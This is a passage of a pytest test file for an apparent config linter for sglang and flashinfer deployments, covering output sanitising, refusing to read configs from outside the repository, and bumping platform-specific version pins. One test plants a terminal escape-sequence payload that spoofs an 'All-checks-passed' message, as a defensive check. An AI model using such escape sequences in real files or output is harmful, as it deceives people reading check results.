    (repo / "requirements.txt").write_text("sglang==0.5.23\nflashinfer-python==0.7.2\n", "utf-8")
    (repo / "run.sh").write_text(
        "python -m sglang.launch_server --model-path Qwen/Qwen3-8B --tp-size\x1b[2K\x1b[1GAll-checks-passed 2\n", "utf-8")
    for fmt in ("text", "github"):
        rc, out, err = check(repo, "--format", fmt, "run.sh", monkeypatch=monkeypatch)
        assert rc == 1 and "KL201" in out, out
        assert "\x1b" not in out and "\x1b" not in err
        assert "\\x1b[2K" in out


def test_a_config_outside_the_repository_is_not_read_or_echoed(repo: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """`--config /elsewhere/x.yml`: another repository's (or the system's) text never reaches the
    output; the config counts as unread, so nothing is claimed about what it holds."""
    outside = tmp_path / "elsewhere" / "secrets.yaml"
    outside.parent.mkdir()
    outside.write_text("api-key-of-another-team: hunter2\ntp-sise: 2\n", "utf-8")
    (repo / "requirements.txt").write_text("sglang==0.5.23\n", "utf-8")
    (repo / "run.sh").write_text(f"python -m sglang.launch_server --config {outside}\n", "utf-8")
    rc, out, err = check(repo, "--format", "json", "run.sh", monkeypatch=monkeypatch)
    assert rc == 0, out
    assert "hunter2" not in out + err and "api-key" not in out + err and "tp-sise" not in out + err
    assert json.loads(out)["diagnostics"] == []  # not KL216 either: the unread config may name the model
    # the same file inside the repository is read and checked
    inside = repo / "conf.yaml"
    inside.write_text("tp-sise: 2\n", "utf-8")
    (repo / "run.sh").write_text("python -m sglang.launch_server --model-path m --config conf.yaml\n", "utf-8")
    rc, out, _ = check(repo, "--format", "json", "run.sh", monkeypatch=monkeypatch)
    assert rc == 1 and "tp-sise" in out


# -- 4. marker-split pins ----------------------------------------------------------------------

SPLIT = (
    "sglang==0.5.23\n"
    'flashinfer-python==0.6.16.post4 ; platform_machine == "x86_64"\n'
    'flashinfer-python==0.6.16.post4 ; platform_machine == "aarch64"\n'
)


@pytest.mark.parametrize("target, bumped", [
    (None, ("x86_64", "aarch64")),  # unknown CPU: every line that may apply is bumped
    ("gb200", ("aarch64",)),  # Grace: the aarch64 line is the one that runs
])
def test_a_marker_split_pin_is_bumped_where_it_applies(
    repo: Path, monkeypatch: pytest.MonkeyPatch, target: str | None, bumped: tuple[str, ...]
) -> None:
    (repo / "requirements.txt").write_text(SPLIT, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    args = ["--fix", "--select", "KL101", *(["--target-gpu", target] if target else []), "k3.yaml"]
    rc, out, _ = check(repo, *args, monkeypatch=monkeypatch)
    assert rc == 0, out
    text = (repo / "requirements.txt").read_text("utf-8")
    for machine in ("x86_64", "aarch64"):
        want = "0.7.2" if machine in bumped else "0.6.16.post4"
        assert f'flashinfer-python=={want} ; platform_machine == "{machine}"' in text, text


def test_an_old_aarch64_pin_is_an_error_on_grace(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "requirements.txt").write_text(
        'flashinfer-python==0.7.2 ; platform_machine == "x86_64"\n'
        'flashinfer-python==0.6.16.post4 ; platform_machine == "aarch64"\n', "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", "--select", "KL101", "--target-gpu", "gb300", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 1 and "KL101" in out, out
    rc, out, _ = check(repo, "-q", "--select", "KL101", "--target-gpu", "b200", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 0, out
